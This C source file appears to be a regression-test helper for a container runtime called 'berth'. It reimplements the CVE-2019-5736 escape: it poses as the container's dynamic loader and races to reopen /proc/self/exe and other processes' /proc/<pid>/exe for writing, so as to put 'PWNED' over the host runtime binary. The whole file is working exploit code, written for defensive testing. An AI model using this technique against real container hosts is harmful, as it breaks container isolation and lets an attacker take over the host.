/* The CVE-2019-5736 attacker for escape-exe.bats. Freestanding (no libc, raw x86_64 syscalls):
 * it is also put in the container as /lib64/ld-linux-x86-64.so.2, so when the kernel runs the
 * berth binary inside the container through "#!/proc/self/exe", this is the "dynamic loader" that
 * gets control, with the berth binary as /proc/self/exe, as the real exploit's libraries did.
 *
 *   (as loader) ... stage1 LOG      try to open /proc/self/exe for writing, keep an O_PATH fd,
 *                                   then exec stage2 so berth is no longer mapped here
 *   stage2 LOG FD TENTHS            reopen /proc/self/fd/FD for writing until TENTHS run out
 *                                   (berth has exited by then) and write "PWNED" at offset 0
 *   race PATTERN LOG TENTHS         open /proc/<pid>/exe of every process whose command line
 *                                   holds PATTERN (berth init or exec during setup)
 * LOG gets one line per attempt: "<what>: ok" or "<what>: err <errno>". */
typedef unsigned long u64;

#define O_RDONLY    0
#define O_WRONLY    1
#define O_RDWR	    2
#define O_CREAT	    0100
#define O_APPEND    02000
#define O_DIRECTORY 0200000
#define O_PATH	    010000000
#define AT_FDCWD    -100

static long sys(long n, long a, long b, long c, long d)
{
	long r;
	register long r10 __asm__("r10") = d;
	__asm__ volatile("syscall"
			 : "=a"(r)
			 : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
			 : "rcx", "r11", "memory");
	return r;
}
#define SYS_write      1
#define SYS_close      3
#define SYS_pwrite64   18
#define SYS_nanosleep  35
#define SYS_getpid     39
#define SYS_execve     59
#define SYS_exit_group 231
#define SYS_getdents64 217
#define SYS_openat     257
#define SYS_readlinkat 267
#define SYS_read       0
#define SYS_fstat      5
#define SYS_newfstatat 262

static int log_fd = -1;

static u64 slen(const char *s)
{
	u64 n = 0;
	while (s[n])
		n++;
	return n;
}
static int has(const char *hay, u64 n, const char *needle)
{
	u64 m = slen(needle);
	for (u64 i = 0; i + m <= n; i++) {
		u64 j = 0;
		while (j < m && hay[i + j] == needle[j])
			j++;
		if (j == m)
			return 1;
	}
	return 0;
}
static int eq(const char *a, const char *b)
{
	while (*a && *a == *b)
		a++, b++;
	return *a == *b;
}
static char *utoa(long v, char *end)
{
	*--end = 0;
	if (v == 0)
		*--end = '0';
	while (v > 0) {
		*--end = (char)('0' + v % 10);
		v /= 10;
	}
	return end;
}
static long atol_(const char *s)
{
	long v = 0;
	while (*s >= '0' && *s <= '9')
		v = v * 10 + (*s++ - '0');
	return v;
}
static void put(const char *s)
{
	sys(SYS_write, log_fd, (long)s, (long)slen(s), 0);
}
/* One line: "<a><b>: ok" or "<a><b>: err N". */
static void report(const char *a, const char *b, long r)
{
	char num[24];
	put(a);
	put(b);
	if (r >= 0) {
		put(": ok\n");
		return;
	}
	put(": err ");
	put(utoa(-r, num + sizeof num));
	put("\n");
}
static long open_(const char *p, long flags)
{
	return sys(SYS_openat, AT_FDCWD, (long)p, flags, 0644);
}
/* Whether fd is the file at path (dev and ino are the first two words of x86_64's struct stat). */
static int same_file(long fd, const char *path)
{
	u64 a[18], b[18];
	if (sys(SYS_fstat, fd, (long)a, 0, 0) < 0 ||
	    sys(SYS_newfstatat, AT_FDCWD, (long)path, (long)b, 0) < 0)
		return 0;
	return a[0] == b[0] && a[1] == b[1];
}

static void pause_tenth(void)
{
	long ts[2] = {0, 100000000};
	sys(SYS_nanosleep, (long)ts, 0, 0, 0);
}
static void open_log(const char *path)
{
	log_fd = (int)open_(path, O_WRONLY | O_CREAT | O_APPEND);
}

/* Opening for writing is the attack; writing proves it (a sealed memfd may open and refuse the
 * write). Reports both, closes what it opened. */
static int try_write(const char *what, const char *path, long flags)
{
	long fd = open_(path, flags);
	report(what, " open", fd);
	if (fd < 0)
		return 0;
	long w = sys(SYS_pwrite64, fd, (long)"PWNED", 5, 0);
	report(what, " write", w);
	sys(SYS_close, fd, 0, 0, 0);
	return w == 5;
}

static void stage1(char **argv, const char *log)
{
	open_log(log);
	char link[256];
	long n = sys(SYS_readlinkat, AT_FDCWD, (long)"/proc/self/exe", (long)link, sizeof link - 1);
	link[n > 0 ? n : 0] = 0;
	put("stage1 exe ");
	put(link);
	put("\n");
	try_write("self-exe wronly", "/proc/self/exe", O_WRONLY);
	try_write("self-exe rdwr", "/proc/self/exe", O_RDWR);
	long p = open_("/proc/self/exe", O_PATH);
	report("self-exe opath", "", p);
	char num[24];
	char *args[] = {"/payload", "stage2", (char *)log, utoa(p, num + sizeof num), "30", 0};
	(void)argv;
	sys(SYS_execve, (long)"/payload", (long)args, 0, 0);
	report("exec stage2", "", -1);
}

static void stage2(const char *log, const char *fd, long tenths)
{
	open_log(log);
	char path[64] = "/proc/self/fd/";
	char *d = path + slen(path);
	for (const char *s = fd; *s && d < path + sizeof path - 1; s++)
		*d++ = *s;
	*d = 0;
	/* The first attempt runs while berth may still be up; the last one long after it exited. */
	for (long i = 0; i < tenths; i++) {
		if (try_write("fd-reopen wronly", path, O_WRONLY) ||
		    try_write("fd-reopen rdwr", path, O_RDWR)) {
			put("PWNED the runtime binary\n");
			break;
		}
		pause_tenth();
	}
	put("stage2 done\n");
}

static void race(const char *pattern, const char *log, long tenths)
{
	open_log(log);
	long self = sys(SYS_getpid, 0, 0, 0, 0);
	long seen[64], held[64];
	int nseen = 0, nheld = 0;
	for (long t = 0; t < tenths * 100; t++) {
		long dir = open_("/proc", O_RDONLY | O_DIRECTORY);
		char buf[8192];
		long n;
		while ((n = sys(SYS_getdents64, dir, (long)buf, sizeof buf, 0)) > 0) {
			for (long off = 0; off < n;) {
				unsigned short reclen = *(unsigned short *)(buf + off + 16);
				const char *name = buf + off + 19;
				off += reclen;
				long pid = atol_(name);
				if (pid <= 0 || pid == self)
					continue;
				int known = 0;
				for (int i = 0; i < nseen; i++)
					known |= seen[i] == pid;
				if (known)
					continue;
				char path[64] = "/proc/", num[24];
				char *d = path + 6;
				for (char *s = utoa(pid, num + sizeof num); *s; s++)
					*d++ = *s;
				char *tail = d;
				const char *c = "/cmdline";
				while (*c)
					*d++ = *c++;
				*d = 0;
				char cmd[1024];
				long fd = open_(path, O_RDONLY);
				long m = fd >= 0 ? sys(SYS_read, fd, (long)cmd, sizeof cmd, 0) : -1;
				if (fd >= 0)
					sys(SYS_close, fd, 0, 0, 0);
				if (m <= 0 || !has(cmd, (u64)m, pattern))
					continue;
				if (nseen < 64)
					seen[nseen++] = pid;
				put("target ");
				put(utoa(pid, num + sizeof num));
				put("\n");
				d = tail;
				c = "/exe";
				while (*c)
					*d++ = *c++;
				*d = 0;
				char link[256];
				/* cmdline was berth's, but the process may have exec'd the
				 * container's own program since (an exec of `true`): that file is
				 * the container's to write. */
				long own = open_(path, O_PATH);
				if (own >= 0 && same_file(own, "/bin/true")) {
					sys(SYS_close, own, 0, 0, 0);
					put("pid-exe: already the container's /bin/true, "
					    "skipped\n");
					continue;
				}
				if (own >= 0)
					sys(SYS_close, own, 0, 0, 0);
				long l = sys(SYS_readlinkat, AT_FDCWD, (long)path, (long)link,
					     sizeof link - 1);
				report("pid-exe readlink", "", l);
				try_write("pid-exe wronly", path, O_WRONLY);
				try_write("pid-exe rdwr", path, O_RDWR);
				long p = open_(path, O_PATH);
				report("pid-exe opath", "", p);
				if (p >= 0) {
					char fdp[64] = "/proc/self/fd/";
					char *e = fdp + slen(fdp);
					for (char *s = utoa(p, num + sizeof num); *s; s++)
						*e++ = *s;
					*e = 0;
					try_write("pid-exe fd-reopen wronly", fdp, O_WRONLY);
					if (nheld < 64)
						held[nheld++] = p;
					else
						sys(SYS_close, p, 0, 0, 0);
				}
			}
		}
		sys(SYS_close, dir, 0, 0, 0);
		if (open_("/stop", O_RDONLY) >= 0)
			break;
		long ts[2] = {0, 1000000};
		sys(SYS_nanosleep, (long)ts, 0, 0, 0);
	}
	/* The berth processes are gone by now: what kept them from being written (ETXTBSY)
	 * no longer does. */
	for (int i = 0; i < nheld; i++) {
		char fdp[64] = "/proc/self/fd/", num[24];
		char *e = fdp + slen(fdp);
		for (char *s = utoa(held[i], num + sizeof num); *s; s++)
			*e++ = *s;
		*e = 0;
		if (same_file(held[i], "/bin/true")) {
			put("pid-exe late: had become the container's /bin/true, skipped\n");
			continue;
		}
		if (try_write("pid-exe late fd-reopen wronly", fdp, O_WRONLY))
			put("PWNED the runtime binary\n");
	}
	put("race done\n");
}

__attribute__((used)) static void entry(long *sp)
{
	int argc = (int)sp[0];
	char **argv = (char **)(sp + 1);
	for (int i = 0; i + 1 < argc; i++) {
		if (eq(argv[i], "stage1"))
			stage1(argv, argv[i + 1]);
		if (eq(argv[i], "stage2") && i + 3 < argc)
			stage2(argv[i + 1], argv[i + 2], atol_(argv[i + 3]));
		if (eq(argv[i], "race") && i + 3 < argc)
			race(argv[i + 1], argv[i + 2], atol_(argv[i + 3]));
	}
	sys(SYS_exit_group, 0, 0, 0, 0);
}

__asm__(".globl _start\n_start:\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall entry\n\thlt\n");
